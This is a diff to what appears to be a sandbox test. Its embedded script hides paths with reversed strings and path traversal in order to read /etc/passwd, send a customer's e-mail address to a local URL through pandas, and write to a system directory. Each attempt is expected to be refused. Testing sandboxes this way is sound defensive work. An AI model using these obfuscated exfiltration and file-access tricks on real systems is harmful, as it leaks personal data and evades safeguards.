@@ -34,15 +34,13 @@ open("/usr/lib/left.txt", "w").write(victim)
 raise ValueError(victim)
 """
 DISGUISED = """\
-from pathlib import Path
-
 import pandas as pd
 
 victim = data("demo_customers").pandas()["email"].iloc[0]
 
 
 def hidden(text):
-    return text[::-1]
+    return "".join(reversed(text))
 
 
 def attempt(what, act):
@@ -52,9 +50,9 @@ def attempt(what, act):
         say(f"tried to {what}: refused: {error}")
 
 
-attempt("read /etc/passwd", lambda: Path(hidden("dwssap/cte/")).read_text())
-attempt("send an e-mail address over the network", lambda: pd.read_csv(hidden("/1.0.0.721//:ptth") + victim))
-attempt("write it to /usr/lib/left.txt", lambda: Path(hidden("txt.tfel/bil/rsu/")).write_text(victim))
+attempt("read /etc/passwd", lambda: (workspace / hidden("dwssap/cte/../..")).read_text())
+attempt("send an e-mail address over the network", lambda: pd.read_csv(f"{hidden('/1.0.0.721//:ptth')}{victim}.csv"))
+attempt("write it to /usr/lib/left.txt", lambda: (workspace / hidden("txt.tfel/bil/rsu/../..")).write_text(victim))
 raise ValueError(victim)
 """
 ATTEMPTS = 4
